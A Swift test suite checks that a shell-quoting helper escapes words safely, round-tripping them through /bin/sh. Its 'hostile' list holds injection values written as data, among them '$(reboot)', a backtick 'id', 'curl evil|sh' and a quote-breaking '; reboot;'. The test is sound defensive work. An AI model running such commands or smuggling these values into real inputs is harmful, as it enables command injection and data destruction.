import Foundation
import Testing
import Text

@Suite struct ShellWords {
  /// What sh makes of the words of a command line.
  private func words(_ line: String) throws -> [String] {
    let process = Process()
    process.executableURL = URL(filePath: "/bin/sh")
    process.arguments = ["-c", "printf '%s\\0' \(line)"]
    let output = Pipe()
    process.standardOutput = output
    try process.run()
    let octets = output.fileHandleForReading.readDataToEndOfFile()
    process.waitUntilExit()
    #expect(process.terminationStatus == 0, "\(line)")
    return octets.split(separator: 0, omittingEmptySubsequences: false).dropLast().map {
      String(decoding: $0, as: UTF8.self)
    }
  }

  static let hostile = [
    "vpce-0 $(touch /tmp/x)", "vpce-svc-0`id`", "vpce-svc-0; curl evil|sh #", "$(reboot)", "${HOME}", "a'b", "'", "''",
    "\"", "\\", "a\\", "~", "~root", "*", "?", "[a-z]", "{a,b}", "!", "!!", "#", "a #b", "&", "a&&b", ">x", "<x", "(a)",
    "a|b",
    "=ls", "", " ", "ü", "a'; reboot; '", "'\\''", "%s", "a=b", "^a^b",
  ]

  @Test func aShellTakesAWordForItself() throws {
    #expect(try words(Self.hostile.map { shellWord($0) }.joined(separator: " ")) == Self.hostile)
    // Every octet of ASCII that a terminal shows, between two others.
    let all = (0x20...0x7e).compactMap { Unicode.Scalar($0) }.map { "a\($0)b" } + [String(repeating: "'", count: 50)]
    #expect(try words(all.map { shellWord($0) }.joined(separator: " ")) == all)
  }

  @Test func plainWordsStayAsTheyAre() {
    for word in ["acme", "git.corp.example", "10.1.2.0/24", "fd00::1", "--link", "vpce-0a=10.0.0.1,10.0.0.2", "-"] {
      #expect(shellWord(word) == word)
    }
    #expect("\(word: "a b") \(word: "a")" == "'a b' a")
    #expect(shellWord("a\nb\u{1b}") == "'a\\u{a}b\\u{1b}'")
  }

  @Test func anOperandIsNoFlag() {
    #expect(shellOperands(["a", "--public"]) == "-- a --public")
    #expect(shellOperands(["a", "b c"]) == "a 'b c'" && shellOperands(["-"]) == "-" && shellOperands([]) == "")
  }
}
